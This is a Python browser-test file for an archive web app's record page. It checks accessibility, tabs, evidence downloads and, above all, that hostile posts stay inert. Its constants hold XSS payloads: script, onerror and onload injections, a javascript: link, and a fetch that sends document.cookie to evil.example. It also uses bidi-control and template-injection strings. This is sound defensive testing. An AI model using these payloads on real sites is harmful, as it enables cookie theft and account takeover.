"""The record page in a real browser: every side of it, and posts that were written to attack it."""

import base64
import json
import socket
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from aiohttp import web
from playwright.sync_api import Browser, Page, Request, expect

from archiver.access.record_page import Tab
from archiver.capture.decoding import decode_capture
from archiver.model.actor import Role
from archiver.model.post import Provenance
from archiver.web.connection import CONNECTION
from archiver.web.server import create_app
from tests.browser.conftest import PageAs, sideways
from tests.browser.site import Site
from tests.fakes.archive import AGENT

POSTED = datetime(2026, 10, 14, 16, 2, 7, tzinfo=UTC)
OWNED = "window.owned=1;fetch('https://evil.example/'+document.cookie)"
SCRIPT = f'<script>{OWNED}</script><img src=x onerror="{OWNED}"><svg onload="{OWNED}">'
BREAKS_OUT = f"\"'><script>{OWNED}</script>{{{{7*7}}}}"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{OWNED}"><script>{OWNED}</script></svg>'
BIDI = "pay \u202egnihton\u202c now\u200b\u2066\ufeff"


def png(width: int, height: int) -> bytes:
    """Return a blue picture."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checked = kind + data
        return struct.pack(">I", len(data)) + checked + struct.pack(">I", zlib.crc32(checked))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = (b"\0" + b"\x1f\x5f\xa8" * width) * height
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            chunk(b"IHDR", header),
            chunk(b"IDAT", zlib.compress(rows)),
            chunk(b"IEND", b""),
        )
    )


def wav() -> bytes:
    """Return a tenth of a second of silence."""
    data = bytes(800)
    form = struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8)
    body = b"WAVEfmt " + struct.pack("<I", len(form)) + form
    body += b"data" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def capture(site: Site, **fields: Any) -> str:
    """Keep a post as the API would decode it; return its record id."""
    posted = fields.pop("posted_at", POSTED)
    media = [
        {
            "name": name,
            "media_type": media_type,
            "content_base64": base64.b64encode(content).decode(),
        }
        for name, media_type, content in fields.pop("media", ())
    ]
    body = json.dumps(
        {
            "platform": "mastodon",
            "account": "@harborline",
            "posted_at": posted.isoformat(),
            "payload": {"content": fields.get("text", "")},
            **fields,
            "media": media,
        },
        ensure_ascii=False,
    ).encode("utf-8", "surrogatepass")
    arrival = decode_capture(body, provenance=Provenance(method="push", source="test"))
    (outcome,) = site.run(site.services.ingest.submit([arrival], actor=AGENT))
    assert outcome.status in {"captured", "unchanged"}
    return outcome.record_id


@pytest.fixture(scope="module")
def story(site: Site) -> dict[str, str]:
    """A conversation with an edited post in its middle, with media, on hold."""
    author = {"id": "1", "handle": "@harborline", "name": "Harborline Advisors"}
    other = {"id": "2", "handle": "@reader", "name": "A reader"}
    common = {"conversation_id": "c-story", "lang": "en"}
    minute = timedelta(minutes=1)
    capture(
        site,
        post_id="s-0",
        text="When does the office move?",
        author=other,
        in_reply_to="s-elsewhere",
        posted_at=POSTED - minute,
        **common,
    )
    first = capture(
        site,
        post_id="s-1",
        text="The office moves on Monday. The map is below; doors open at nine.",
        author=author,
        in_reply_to="s-0",
        permalink="https://social.example/@harborline/s-1",
        **common,
    )
    edited = capture(
        site,
        post_id="s-1",
        change="edited",
        edited_at=(POSTED + minute).isoformat(),
        text="The office moves on Tuesday. The map is below; doors open at ten, see you there.",
        author=author,
        in_reply_to="s-0",
        permalink="https://social.example/@harborline/s-1",
        tags=["relocation", "customers"],
        payload={
            "content": "The office moves on Tuesday.",
            "media_attachments": [
                {"url": "https://files.example/map.png", "description": "Map of the new office"}
            ],
        },
        media=[
            ("map.png", "image/png", png(320, 200)),
            ("greeting.wav", "audio/wav", wav()),
            ("plan.svg", "image/svg+xml", SVG.encode()),
        ],
        **common,
    )
    capture(
        site,
        post_id="s-2",
        text="شكرا جزيلا، إلى اللقاء!",
        lang="ar",
        author=other,
        in_reply_to="s-1",
        conversation_id="c-story",
        posted_at=POSTED + 2 * minute,
    )
    counsel = site.actor(Role.COUNSEL)
    site.run(
        site.services.holds.place(
            name="Move of the office",
            matter="Lease dispute",
            reason="Claim by the landlord",
            record_ids=[edited],
            actor=counsel,
        )
    )
    site.run(site.services.records.show(edited, actor=counsel))
    return {"first": first, "edited": edited}


@pytest.mark.parametrize("tab", Tab)
def test_every_side_of_a_record_is_accessible_in_both_themes(
    page_as: PageAs,
    axe: Callable[[Page], None],
    screenshot: Callable[[Page, str], None],
    story: dict[str, str],
    tab: Tab,
) -> None:
    page = page_as(Role.AUDITOR, path=f"/records/{story['edited']}?tab={tab}&q=office")

    expect(page.locator("h1")).to_have_text("Harborline Advisors")
    axe(page)
    screenshot(page, f"record-{tab}")
    assert sideways(page) == 0


def test_a_record_reads_on_a_narrow_screen(
    page_as: PageAs, story: dict[str, str], screenshot: Callable[[Page, str], None]
) -> None:
    page = page_as(Role.COUNSEL, size=(320, 800))
    for tab in Tab:
        page.goto(f"/records/{story['edited']}?tab={tab}")
        assert sideways(page) == 0, tab
        screenshot(page, f"record-{tab}-narrow")


def test_one_goes_from_the_post_through_its_sides_and_verifies_it(
    page_as: PageAs, story: dict[str, str], axe: Callable[[Page], None]
) -> None:
    page = page_as(Role.COUNSEL, "light", f"/records/{story['edited']}")
    expect(page.get_by_role("img", name="Map of the new office")).to_be_visible()
    expect(page.get_by_text("Alt text: Map of the new office")).to_be_visible()
    expect(page.locator("main .tag", has_text="Edited (v2)")).to_be_visible()
    expect(page.get_by_role("link", name="Move of the office")).to_be_visible()

    page.get_by_role("link", name="Thread").click()
    expect(page.get_by_text("In reply to post s-elsewhere: not in this archive.")).to_be_visible()
    expect(page.locator("ol.thread > li:not(.gap)")).to_have_count(3)
    expect(page.locator("ol.thread > .this")).to_contain_text("moves on Tuesday")

    page.get_by_role("link", name="Versions").click()
    expect(page.locator(".diff del")).to_have_text([" [removed: Monday] ", " [removed: nine] "])
    expect(page.locator("table", has_text="Fields that changed")).to_contain_text("relocation")

    page.get_by_role("link", name="Custody").click()
    expect(page.get_by_role("list", name="Custody of this record")).to_contain_text("Sealed")
    expect(page.get_by_text("Held by Move of the office")).to_be_visible()

    page.get_by_role("button", name="Verify this record").click()
    expect(page.locator("h1")).to_have_text("Verified")
    expect(page.locator("tbody tr")).to_have_count(6)
    axe(page)


def test_the_evidence_of_a_record_is_downloaded(page_as: PageAs, story: dict[str, str]) -> None:
    page = page_as(Role.COUNSEL, "light", f"/records/{story['edited']}")
    with page.expect_download() as download:
        page.get_by_role("link", name="Evidence bundle").click()
    path = download.value.path()

    assert path.read_bytes().startswith(b"PK")
    assert download.value.suggested_filename == f"evidence-{story['edited']}.zip"


def test_hits_are_walked_by_key(page_as: PageAs, story: dict[str, str]) -> None:
    page = page_as(Role.COUNSEL, "light", f"/records/{story['edited']}?q=office+OR+map")
    expect(page.locator(".post-text mark")).to_have_text(["office", "map"])
    page.keyboard.press("n")

    expect(page.locator("main mark.current")).to_have_count(1)


def test_a_record_prints_whole(page_as: PageAs, story: dict[str, str], tmp_path: Path) -> None:
    page = page_as(Role.COUNSEL, "light", f"/records/{story['edited']}")
    page.emulate_media(media="print")
    expect(page.locator(".hash .full").first).to_be_visible()
    expect(page.locator("header.top")).to_be_hidden()

    assert page.pdf(path=tmp_path / "record.pdf").startswith(b"%PDF")


def hostile(site: Site, number: int, word: str) -> str:
    """Keep a post every field of which is written to act; return its record id."""
    named = word.replace("/", "\u2215")
    name = "".join(char for char in named if char >= " " and char != "\\")[:200]
    fields = {
        "post_id": f"{word}{number}",
        "account": word,
        "kind": word[:100],
        "text": word,
        "lang": word[:100],
        "permalink": f"javascript:{OWNED}//{word}",
        "in_reply_to": word,
        "conversation_id": word,
        "author": {"id": word, "handle": word, "name": word},
        "tags": [word],
    }
    attack = {
        "content": word,
        "media_attachments": [{"url": f"https://evil.example/{name}.png", "description": word}],
    }
    capture(site, **fields, payload={"first": word})
    return capture(
        site,
        **{**fields, "text": f"{word} again", "author": {"id": word, "handle": "h", "name": word}},
        change="edited",
        edited_at=(POSTED + timedelta(minutes=1)).isoformat(),
        payload=attack,
        media=[
            (f"{name}.png", "image/png", png(2, 2)),
            (f"{name}.svg", f"image/svg+xml; {name[:80]}", SVG.encode()),
            (f"{name}.html", "text/html", SCRIPT.encode()),
            (f"lies-{name[:100]}.png", "image/png", SVG.encode()),
            (f"also-{name[:100]}.gif", "image/gif", SCRIPT.encode()),
        ],
    )


@pytest.mark.parametrize(
    ("number", "word"),
    list(enumerate((SCRIPT, BREAKS_OUT, BIDI + SCRIPT, "a" + "\u0301" * 900 + BREAKS_OUT))),
    ids=["markup", "breaking out", "controls", "marks"],
)
def test_no_field_of_a_post_runs_or_sends_anything_on_any_side(
    page_as: PageAs, site: Site, number: int, word: str
) -> None:
    record_id = hostile(site, number, word)
    page = page_as(Role.AUDITOR, "light", f"/records/{record_id}?q=script")
    sent: list[str] = []
    ran: list[str] = []
    page.on("request", lambda request: sent.append(request.url))
    page.on("dialog", lambda dialog: ran.append(dialog.message))
    for tab in Tab:
        page.goto(f"/records/{record_id}?tab={tab}&q=script")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.owned") is None, tab
        assert page.locator("main script, main iframe, main object, main [onerror]").count() == 0
        assert page.locator('main a[href^="javascript:"]').count() == 0
        assert "\u202e" not in page.content()

    here = urlsplit(site.url).netloc
    assert [url for url in sent if urlsplit(url).netloc not in {here, ""}] == []
    assert ran == []


def test_archived_documents_opened_by_their_address_are_downloads_or_inert(
    page_as: PageAs, site: Site
) -> None:
    record_id = hostile(site, 9, SCRIPT)
    page = page_as(Role.COUNSEL, "light", f"/records/{record_id}?tab=media")
    addresses = [f"/content/{record_id}/"] + [
        str(link.get_attribute("href")) for link in page.locator("main a[download]").all()
    ]
    names = [urlsplit(each).path.rpartition("/")[2] for each in addresses[1:]]
    for address in [*addresses[1:], *(f"/content/{record_id}/{name}" for name in names)]:
        if "/raw" in address or "/proof" in address or "/evidence" in address:
            continue
        answer = page.request.get(address)
        if answer.status == 404:  # the name of no part
            continue
        told = answer.headers
        assert "sandbox" in told["content-security-policy"]
        assert told["x-content-type-options"] == "nosniff"
        inline = told["content-disposition"].startswith("inline")
        assert not inline or told["content-type"] == "image/png"
        assert not inline or answer.body().startswith(b"\x89PNG")


def test_ten_thousand_marks_on_one_letter_stay_within_their_post(
    page_as: PageAs, site: Site
) -> None:
    record_id = capture(site, post_id="zalgo", text="before a" + "\u0301" * 10_000 + " after")
    page = page_as(Role.COUNSEL, "light", f"/records/{record_id}")

    expect(page.get_by_role("link", name="Custody")).to_be_visible()
    assert sideways(page) == 0
    page.get_by_role("link", name="Custody").click()
    expect(page.locator("h2", has_text="Custody")).to_be_visible()


@pytest.fixture
def content_host(site: Site) -> Iterator[tuple[str, str]]:
    """The same archive served with a host of its own for content: (pages, content)."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    pages, content = f"http://127.0.0.1:{port}", f"http://localhost:{port}"
    settings = site.services.settings.model_copy(update={"content_origin": content})

    async def start() -> web.AppRunner:
        runner = web.AppRunner(create_app(replace(site.services, settings=settings)), **CONNECTION)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.1", port).start()
        return runner

    runner = site.run(start())
    yield pages, content
    site.run(runner.cleanup())


def test_media_come_from_the_content_host_without_a_cookie(
    browser: Browser, site: Site, story: dict[str, str], content_host: tuple[str, str]
) -> None:
    pages, content = content_host
    context = browser.new_context(base_url=pages)
    context.add_cookies([site.cookie(site.person(Role.COUNSEL))])  # type: ignore[list-item]
    page = context.new_page()
    asked: list[Request] = []
    page.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - it is marked
    page.goto(f"/records/{story['edited']}")
    image = page.get_by_role("img", name="Map of the new office")
    expect(image).to_be_visible()

    expect(image).to_have_js_property("naturalWidth", 320)
    of_content = [request for request in asked if "/content/" in request.url]
    assert of_content
    assert all(request.url.startswith(f"{content}/content/") for request in of_content)
    assert all("cookie" not in request.all_headers() for request in of_content)
    assert page.request.get(f"{content}/records/{story['edited']}").status == 404
    assert page.request.get(f"{pages}/content/{story['edited']}/map.png").status == 404
    context.close()
